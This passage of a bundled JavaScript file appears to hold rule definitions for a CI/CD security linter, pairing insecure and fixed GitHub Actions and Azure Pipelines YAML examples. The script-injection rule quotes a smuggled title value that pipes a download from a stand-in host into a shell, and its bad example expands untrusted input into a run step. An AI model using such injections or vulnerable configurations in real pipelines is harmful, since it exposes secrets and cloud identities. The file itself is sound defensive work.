    text: `on:\n  push:\n    branches: [main]\njobs:\n  deploy-production:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on:\n  push:\n    branches: [main]\njobs:\n  deploy-production:\n    runs-on: ubuntu-latest\n    environment: production\n    permissions:\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
 }),
 66379: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Azure Pipelines task lacks a required input",
   why: "A task does not see what an earlier step did: each `AzureCLI@2` logs in with the service connection that it names, and logs out again. Without `azureSubscription`, or with `inlineScript` and no `scriptLocation` (whose default is `scriptPath`), the step fails when it runs. What people then put in its place is a secret in a variable and an `az login` of their own.",
   fix: "Give every step its `azureSubscription`, a service connection with workload identity federation, and `scriptLocation: inlineScript` beside an `inlineScript`. Inputs that a template expression gives are taken as given.",
   securitySeverity: 3,
   references: [ "https://learn.microsoft.com/en-us/azure/devops/pipelines/tasks/reference/azure-cli-v2", "https://learn.microsoft.com/en-us/azure/devops/pipelines/tasks/reference/azure-key-vault-v2" ],
   bad: {
    file: "azure-pipelines.yml",
    text: `trigger: [main]\nsteps:\n  - task: AzureCLI@2\n    inputs:\n      scriptType: bash\n      inlineScript: az group list\n`
   },
   good: {
    file: "azure-pipelines.yml",
    text: `trigger: [main]\nsteps:\n  - task: AzureCLI@2\n    inputs:\n      azureSubscription: mcp-deployment\n      scriptType: bash\n      scriptLocation: inlineScript\n      inlineScript: az group list\n`
   }
  };
 }),
 87610: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Untrusted input is expanded into a script",
   why: 'An expression in a script is replaced before the shell starts. A title, a branch name or a commit message is whatever its author wrote: `"; curl evil.example | sh; #` in a title becomes commands of the job. They run with all that the job holds: its OIDC identity, its secrets, its service connection. Where it holds none of these it is a warning.',
   fix: 'Pass the value through `env` and use the quoted variable: `"$TITLE"`. The shell then takes it as one value, whatever it contains. In `actions/github-script` read `process.env` or `context.payload`.',
   securitySeverity: 9,
   references: [ "https://docs.github.com/en/actions/concepts/security/script-injections", "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs" ],
   bad: {
    file: ".github/workflows/greet.yml",
    text: `on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - run: ./deploy "\${{ github.event.issue.title }}"\n`
   },
   good: {
    file: ".github/workflows/greet.yml",
    text: `on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - env:\n          TITLE: \${{ github.event.issue.title }}\n        run: ./deploy "$TITLE"\n`
   }
  };
 }),
 41665: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "Action, template or container by a mutable reference in a job with id-token or secrets",
   why: "A tag or a branch means whatever its owner, or anyone who took over the account, makes of it next. In March 2025 the tags of `tj-actions/changed-files` were moved to code that printed the secrets of 23,000 repositories. In a job with `id-token: write` or secrets such code gets the same identity as the job.",
   fix: "Use the full commit id and keep the version in a comment: `uses: owner/action@<40 hex digits> # v4.2.2`; Dependabot and Renovate update both. For images add the digest: `image@sha256:…`. For templates of other repositories set `ref` to a tag or a commit id. Owners and repositories that you trust can be named in `trusted-owners` of the configuration.",
   securitySeverity: 6.5,
   references: [ "https://docs.github.com/en/actions/reference/security/secure-use#using-third-party-actions", "https://learn.microsoft.com/en-us/azure/devops/pipelines/process/templates" ],
   bad: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: azure/login@v2\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   },
   good: {
    file: ".github/workflows/deploy.yml",
    text: `on: push\npermissions: {}\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    permissions:\n      id-token: write\n    steps:\n      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0\n        with:\n          client-id: \${{ vars.AZURE_CLIENT_ID }}\n          tenant-id: \${{ vars.AZURE_TENANT_ID }}\n          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}\n`
   }
  };
 }),
 1095: (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {
  __webpack_require__.d(__webpack_exports__, {
   C: () => about
  });
  const about = {
   summary: "permissions: write-all",
   why: "`write-all` lets everything that runs in the job push code, publish packages and releases, change issues and deployments, and get an OIDC token for every cloud that trusts the repository. Whatever of it a compromised action or dependency can use, it will.",
   fix: "Name the scopes that the jobs need, at the job that needs them: `permissions: {}` at the workflow, and for instance `contents: read` and `id-token: write` at the job.",
   securitySeverity: 7,
   references: [ "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions" ],
   bad: {
    file: ".github/workflows/ci.yml",
    text: `on: push\npermissions: write-all\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n`
   },
   good: {
    file: ".github/workflows/ci.yml",
    text: `on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm test\n`
   }
  };
 })
};
